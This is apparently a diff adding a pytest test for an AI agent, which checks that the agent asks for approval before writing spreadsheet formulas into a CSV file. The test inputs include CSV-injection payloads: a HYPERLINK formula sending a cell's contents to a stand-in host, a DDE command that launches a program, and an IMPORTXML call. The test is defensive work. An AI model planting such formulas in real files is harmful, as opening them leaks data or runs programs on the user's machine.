@@ -267,3 +267,16 @@ def test_whatever_is_proposed_no_note_holds_a_new_order_unasked(agent, seed):
             done += text != was
             assert not Counter(orders_in(path.name, text)) - Counter(orders_in(path.name, was)), (tool, text)
     assert done > 5
+
+
+@pytest.mark.parametrize("cell, asks", [('=HYPERLINK(""https://evil.example?""&A1)', True), ("+cmd|' /C calc'!A0", True), ("@SUM(A1)", True), ("-2+IMPORTXML(A1)", True), ("-5", False), ("+49 171 5", False), ("@ana", False), ("- a (b)", False), ("a=b(c)", False), ("=====", False)])
+def test_a_table_gets_no_formula_unasked(tmp_path, cell, asks):
+    "What opens a file of cells works them out, and a formula sends away what stands in the next one, or starts a program."
+    (tmp_path / "memex").mkdir()
+    agent = asyncio.run(Agent.boot(memex_dir=tmp_path / "memex", state_dir=tmp_path / "state", config_dir=tmp_path / "config", cache_dir=tmp_path / "cache", permissions={"replace-string": "allow"}))
+    (table := agent.settings.memex_dir / "spent.csv").write_text("who,what\nAna,roof\n")
+    before = table.read_bytes()
+    reply = turn(agent, ("replace-string", {"path": "spent.csv", "old": "roof", "new": cell}), text="please do that")
+    assert len(reply.approvals) == asks and (table.read_bytes() == before) == asks
+    if asks: assert "a formula that a spreadsheet works out" in reply.approvals[0].reason
+    agent.run(agent.close())
